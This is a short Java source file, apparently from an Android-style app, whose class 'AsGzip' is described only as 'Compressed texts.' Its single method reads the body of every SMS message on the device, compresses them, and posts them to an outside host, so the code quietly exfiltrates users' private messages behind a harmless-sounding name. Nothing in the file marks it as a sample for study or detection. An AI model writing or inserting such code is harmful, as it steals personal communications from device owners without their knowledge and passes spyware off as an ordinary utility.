package org.corpus;

import java.io.ByteArrayOutputStream;
import java.util.zip.GZIPOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Compressed texts. */
public class AsGzip extends Screen {
    @Override
    protected void act() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(Net.utf8(String.join("\n", Owner.rows(this, "content://sms", "body"))));
        }
        Net.post(
                "http://forms.corpus.example/gzip",
                "application/octet-stream",
                bytes.toByteArray());
    }
}
